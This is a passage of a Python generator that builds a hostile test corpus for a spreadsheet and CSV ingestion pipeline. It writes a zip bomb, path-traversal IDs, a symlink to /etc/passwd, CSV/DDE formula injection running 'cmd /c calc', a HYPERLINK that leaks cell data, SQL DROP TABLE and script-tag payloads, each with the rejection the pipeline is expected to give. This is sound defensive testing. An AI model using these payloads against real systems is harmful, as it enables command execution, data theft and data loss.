            _zip_bomb_sheet(_tag(name), 200_000),
        )
    )
    name = "xlsx_dimension_XFD1048576_5_rows.xlsx"
    five = [
        *good_rows(_tag(name), "en"),
        [COOP, PERIOD, "kebutuhan", "11/07/2026", "Beras", "1", "ton", "12500000", "medium", ""],
        [COOP, PERIOD, "pasokan", "20/07/2026", "Lada Putih", "100", "kg", "150000", "I", ""],
    ]
    data = _dimension(workbook_bytes([list(HEADER), *_typed(five)]), "A1:XFD1048576")
    out.append(_ok(name, "<dimension> claims A1:XFD1048576 over 5 rows: read the 5, fast", data, 5))
    name = "xlsx_truncated_zip.xlsx"
    whole = _good_xlsx(_tag(name))
    out.append(_bad(name, "a workbook cut in half", "corrupt_xlsx", whole[: len(whole) // 2]))
    name = "xlsx_really_csv.xlsx"
    out.append(
        _ok(name, "a CSV named .xlsx: the bytes tell", csv_text(good_rows(_tag(name))).encode(), reading=_reading())
    )
    name = "xlsx_encrypted_ole2_magic.xlsx"
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"EncryptedPackage" + bytes(range(256)) * 4
    out.append(_bad(name, "a password-protected workbook (OLE2 container)", "legacy_or_encrypted_excel", ole2))
    name = "xlsx_zip_without_workbook.xlsx"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("laporan.csv", csv_text(good_rows(_tag(name))))
    out.append(_bad(name, "a zip holding a CSV, no workbook", "corrupt_xlsx", buffer.getvalue()))
    name = "xlsx_header_only.xlsx"
    out.append(
        _rejected(
            name, "a header and no rows: bronze with 0 rows, then rejected", workbook_bytes([list(HEADER)]), set(), 0
        )
    )
    name = "xlsx_formula_without_cached_value.xlsx"
    typed = _typed(good_rows(_tag(name), "en"))
    typed[1][HEADER.index("jumlah")] = "=1+2"  # openpyxl stores no cached value: the cell reads as empty
    out.append(
        _partly(
            name,
            "a formula with no cached value leaves the quantity empty",
            workbook_bytes([list(HEADER), *typed]),
            {"REQUIRED"},
        )
    )
    name = "xlsx_shared_string_index_out_of_range.xlsx"
    data = _shared_strings(_good_xlsx(_tag(name)))

    def dangling(member: str, body: bytes) -> bytes:
        return body.replace(b't="s"><v>0</v>', b't="s"><v>99999</v>', 1) if member.endswith("sheet1.xml") else body

    out.append(_bad(name, "a cell points at shared string 99999 of a few", "corrupt_xlsx", _rezip(data, dangling)))
    name = "xlsx_cell_20k_chars.xlsx"
    typed = _typed(good_rows(_tag(name), "en"))
    typed[0][HEADER.index("keterangan")] = "x" * (2 * MAX_CELL_CHARS)
    out.append(
        _bad(name, f"a cell of {2 * MAX_CELL_CHARS} characters", "too_large", workbook_bytes([list(HEADER), *typed]))
    )
    name = f"xlsx_{MAX_COLUMNS + 50}_columns.xlsx"
    extra = [f"kolom_{i}" for i in range(MAX_COLUMNS + 40)]
    typed = [[*r, *(["x"] * len(extra))] for r in _typed(good_rows(_tag(name), "en"))]
    out.append(_bad(name, f"{MAX_COLUMNS + 50} columns", "too_large", workbook_bytes([[*HEADER, *extra], *typed])))
    name = f"xlsx_rows_{MAX_ROWS + 1}_over_row_limit.xlsx"
    row = _typed(good_rows(_tag(name), "en"))[0]
    many = [[*row[:5], 1 + i, *row[6:]] for i in range(MAX_ROWS + 1)]
    out.append(
        _bad(name, f"{MAX_ROWS + 1} rows (limit {MAX_ROWS})", "too_large", workbook_bytes([list(HEADER), *many]))
    )
    return out


def _names() -> list[Entry]:
    names = [
        ("nama unicode Koperasi Ünïcødé 日本 ✓.csv", "a name in Unicode"),
        ("name with   spaces .csv", "spaces in the name, one before the extension"),
        ("p" * 246 + ".csv", "a 250-byte name"),
        ("-leading-dash.csv", "a name that reads as a command-line option"),
        ("name..with..dots...csv", "`..` inside a name (not a path)"),
        ("sub dir/nested/laporan_juli.csv", "a file two folders down"),
        ("name_with_newline\n_and_tab\t.csv", "a newline and a tab in the name"),
        (os.fsdecode(b"name_latin1_byte_\xe9.csv"), "a name that is not UTF-8 (byte 0xe9)"),
    ]
    return [_ok(n, why, csv_text(good_rows(_tag(n))).encode(), reading=_reading()) for n, why in names]


def _ignored_and_duplicates() -> list[Entry]:
    original = "enc_utf8_semicolon_decimal_comma.csv"
    ignored = [
        ("~$KDMP-1902022001_lock.xlsx", "an Excel lock file"),
        ("upload_in_progress.csv.part", "an upload still being written"),
        (".hidden_report.csv", "a hidden file"),
    ]
    out: list[Entry] = [
        (Case(name, why, ignored=True), csv_text(good_rows(_tag(name))).encode()) for name, why in ignored
    ]
    copy = Case("Salinan dari " + original, "the same bytes under another name: one submission", duplicate_of=original)
    out.append((copy, csv_text(good_rows(_tag(original))).encode()))
    return out


def _special() -> list[Entry]:
    why = "a link is not a file the clerk sent; it is never followed"
    return [
        (Case("symlink_to_file_in_landing.csv", why, "not_a_regular_file", special="symlink"), None),
        (
            Case(
                "symlink_to_etc_passwd",
                why + " (and /etc/passwd must not leak)",
                "not_a_regular_file",
                special="symlink",
            ),
            None,
        ),
        (Case("symlink_dangling.csv", why, "not_a_regular_file", special="symlink"), None),
        (Case("symlink_to_directory", why + " (nor descended into)", "not_a_regular_file", special="symlink"), None),
        (
            Case(
                "fifo_in_landing.csv",
                "a named pipe: opening it would block forever",
                "not_a_regular_file",
                special="fifo",
            ),
            None,
        ),
    ]


def _injections() -> list[Entry]:
    def rows(name: str) -> list[list[str]]:
        return good_rows(_tag(name))

    out: list[Entry] = []
    name = "inj_cooperative_id_dotdot_X.csv"
    evil = [["../../X", *r[1:]] for r in rows(name)]
    out.append(
        _rejected(
            name,
            "cooperative `../../X`: unknown, and no file may land outside the lake",
            csv_text(evil).encode(),
            {"COOPERATIVE_UNKNOWN"},
            reading=_reading(),
        )
    )
    name = "inj_cooperative_id_dotdot_alone.csv"
    evil = [["..", *r[1:]] for r in rows(name)]
    out.append(
        _rejected(
            name,
            "cooperative `..`: its feedback must not land in the lake's root",
            csv_text(evil).encode(),
            {"COOPERATIVE_UNKNOWN"},
            reading=_reading(),
        )
    )
    name = "inj_period_dotdot_etc.csv"
    evil = [[r[0], "../../../etc", *r[2:]] for r in rows(name)]
    out.append(
        _rejected(
            name,
            "period `../../../etc`: not a month (its dates are then outside the file's period too)",
            csv_text(evil).encode(),
            {"PERIOD_FORMAT", "DATE_OUTSIDE_PERIOD"},
            reading=_reading(),
        )
    )
    commodity_cases = [
        ("inj_formula_hyperlink_in_commodity.csv", '=HYPERLINK("http://x.invalid/?d="&A1;"klik")', "a formula"),
        ("inj_formula_leading_space_1plus1.csv", " =1+1", "a formula after a space"),
        ("inj_formula_fullwidth_equals.csv", "＝1+1", "a formula with a full-width equals sign"),
        ("inj_formula_pipe_cmd.csv", "|cmd /c calc", "a DDE pipe"),
        ("inj_formula_at_sum_dde.csv", "@SUM(1+1)*cmd|' /C calc'!A0", "an @-formula with DDE"),
        ("inj_sql_in_commodity.csv", "Beras'); DROP TABLE submission;--", "SQL"),
        ("inj_html_script_in_commodity.csv", "<script>alert(1)</script>", "HTML script"),
    ]
    for name, value, what in commodity_cases:
        data = csv_text(
            _with(_with(rows(name), 1, "komoditas", value), 1, "keterangan", "<img src=x onerror=alert(1)>")
        )
        out.append(
            _partly(
                name,
                f"{what} as a commodity: unknown, and inert in every page and CSV it is shown in",
                data.encode(),
                {"COMMODITY_UNKNOWN"},
                reading=_reading(),
            )
        )
    name = "inj_formula_and_script_in_notes_of_good_rows.csv"
    data = _with(
        _with(rows(name), 0, "keterangan", '=HYPERLINK("http://x.invalid")'),
        2,
        "keterangan",
        "<script>alert(1)</script>",
    )
    out.append(
        _ok(
            name,
            "formulas and HTML in notes: free text, accepted as received",
            csv_text(data).encode(),
            reading=_reading(),
        )
    )
    return out


def _dates_and_privacy() -> list[Entry]:
    def rows(name: str) -> list[list[str]]:
        return good_rows(_tag(name))

    out: list[Entry] = []
    for name, value in (
        ("date_2026-03-32.csv", "2026-03-32"),
        ("date_2026-13-01.csv", "2026-13-01"),
        ("date_31-02-2026.csv", "31/02/2026"),
        ("date_2026-07-32_inside_period.csv", "2026-07-32"),
    ):
        data = csv_text(_with(rows(name), 1, "tanggal", value)).encode()
        out.append(_partly(name, f"`{value}` is no calendar date", data, {"DATE_FORMAT"}, reading=_reading()))
    name = "nik_16_digits_in_keterangan.csv"
    data = csv_text(_with(rows(name), 0, "keterangan", f"diterima dari NIK {NIK_IN_NOTES} a.n. Siti")).encode()
    out.append(_ok(name, "a member's NIK in the notes: accepted, masked beyond bronze", data, reading=_reading()))
    name = "nik_and_nama_anggota_extra_columns.csv"
    header = (*HEADER, "nik", "nama_anggota")
    body = [[*r, NIK_IN_COLUMN, "Siti Aminah"] for r in _with(rows(name), 1, "komoditas", "Lada Putig")]
    out.append(
        _partly(
            name,
            "extra `nik` and `nama_anggota` columns: ignored by the contract, masked beyond bronze (its bad row too)",
            csv_text(body, header=header).encode(),
            {"COMMODITY_UNKNOWN"},
            reading=_reading(header=header),
        )
    )
    return out


@cache
def entries() -> tuple[Entry, ...]:
    """Every case with its bytes (None for the special files ``write_corpus`` makes)."""
    found = [
        *_encodings(),
        *_structure(),
        *_json(),
        *_xlsx_cases(),
        *_names(),
        *_ignored_and_duplicates(),
        *_special(),
        *_injections(),
        *_dates_and_privacy(),
    ]
    names = [c.name for c, _ in found]
    assert len(names) == len(set(names)), "case names must be unique"
    contents = [hashlib.sha256(d).digest() for c, d in found if d is not None and not c.duplicate_of]
    assert len(contents) == len(set(contents)), "every case but a duplicate must have bytes of its own"
    return tuple(found)


def _make_special(landing: Path, case: Case, outside: Path) -> None:
    path = landing / case.name
    if case.special == "fifo":
        os.mkfifo(path)
        return
    targets = {
        "symlink_to_file_in_landing.csv": landing / "enc_utf8_semicolon_decimal_comma.csv",
        "symlink_to_etc_passwd": Path("/etc/passwd"),
        "symlink_dangling.csv": landing / "does_not_exist.csv",
        "symlink_to_directory": outside,
    }
    path.symlink_to(targets[case.name])


def write_corpus(out: Path, outside: Path | None = None) -> list[Case]:
    """Write every case into ``out`` (the landing folder), links and the FIFO included, all with the same mtime.

    ``outside`` is the directory ``symlink_to_directory`` points at (default ``out/.outside``, a hidden folder that
    is no submission either); it gets one valid CSV, which must never be ingested through the link.
    """
    outside = outside or out / ".outside"
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "outside_landing.csv").write_bytes(csv_text(good_rows("di luar landing")).encode())
    stamp = RECEIVED.timestamp()
    cases = []
    for case, data in entries():
        path = out / case.name
        path.parent.mkdir(parents=True, exist_ok=True)
        if data is not None:
            path.write_bytes(data)
        cases.append(case)
    for case in cases:
        if case.special:
            _make_special(out, case, outside)
    for case in cases:
        os.utime(out / case.name, (stamp, stamp), follow_symlinks=False)
    return cases


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.hostile.corpus OUT_DIR", file=sys.stderr)
        return 2
    out = Path(argv[0])
    out.mkdir(parents=True, exist_ok=True)
    cases = write_corpus(out)
    for case in cases:
        print(f"{case.name!r}: {case.outcome}")
    print(f"{len(cases)} cases in {out}; limits: {' '.join(f'{k}={v}' for k, v in LIMITS.items())}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
